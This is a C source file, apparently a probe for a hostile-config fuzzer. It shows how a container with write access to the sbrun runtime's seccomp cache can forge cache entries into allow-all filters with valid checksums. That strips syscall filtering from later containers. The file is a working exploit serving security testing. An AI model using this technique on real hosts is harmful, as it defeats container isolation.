/* What a container does with write access to sbrun's seccomp cache
 * (<root>/.seccomp-cache, runtime/seccomp/seccomp_cache.c): rewrites every
 * entry of DIR so that its program is one `return ALLOW`, with a checksum
 * that matches, keeping the file's owner and mode. The next container that
 * loads such an entry runs without that filter. Run inside the container by
 * the hostile-config fuzzer's probe (tests/fuzz/hostile/probe.sh), only on
 * a directory holding the fuzzer's marker file.
 *
 *   forge_bpf DIR   → "forged N" (entries rewritten)
 */
#include <dirent.h>
#include <fcntl.h>
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

struct entry_header { /* runtime/seccomp/seccomp_cache.c */
        char magic[8];
        uint32_t version, reserved;
        uint64_t key_len, bpf_len, checksum;
};

static uint64_t fnv1a(uint64_t h, const uint8_t *p, size_t n)
{
        for (size_t i = 0; i < n; i++) {
                h ^= p[i];
                h *= 0x100000001b3ull;
        }
        return h;
}

static int forge(int dir, const char *name)
{
        int fd = openat(dir, name, O_RDWR | O_NOFOLLOW | O_CLOEXEC);
        struct entry_header h;
        struct stat st;
        if (fd < 0)
                return 0;
        if (fstat(fd, &st) < 0 || !S_ISREG(st.st_mode) ||
            pread(fd, &h, sizeof(h), 0) != sizeof(h) || memcmp(h.magic, "SBSECBPF", 8) != 0 ||
            h.key_len > (16u << 20) || (uint64_t)st.st_size < sizeof(h) + h.key_len) {
                close(fd);
                return 0;
        }
        uint8_t *key = malloc(h.key_len ? h.key_len : 1);
        if (key == NULL || pread(fd, key, h.key_len, sizeof(h)) != (ssize_t)h.key_len) {
                free(key);
                close(fd);
                return 0;
        }
        struct sock_filter allow = BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW);
        h.bpf_len = sizeof(allow);
        h.checksum = fnv1a(fnv1a(0xcbf29ce484222325ull, key, h.key_len), (const uint8_t *)&allow,
                           sizeof(allow));
        int ok = pwrite(fd, &h, sizeof(h), 0) == sizeof(h) &&
                 pwrite(fd, &allow, sizeof(allow), (off_t)(sizeof(h) + h.key_len)) ==
                         sizeof(allow) &&
                 ftruncate(fd, (off_t)(sizeof(h) + h.key_len + sizeof(allow))) == 0;
        free(key);
        close(fd);
        return ok;
}

int main(int argc, char **argv)
{
        if (argc != 2) {
                fprintf(stderr, "usage: forge_bpf DIR\n");
                return 2;
        }
        DIR *d = opendir(argv[1]);
        if (d == NULL) {
                perror(argv[1]);
                return 1;
        }
        int n = 0;
        struct dirent *e;
        while ((e = readdir(d)) != NULL) {
                size_t len = strlen(e->d_name);
                if (len > 4 && strcmp(e->d_name + len - 4, ".bpf") == 0)
                        n += forge(dirfd(d), e->d_name);
        }
        closedir(d);
        printf("forged %d\n", n);
        return 0;
}
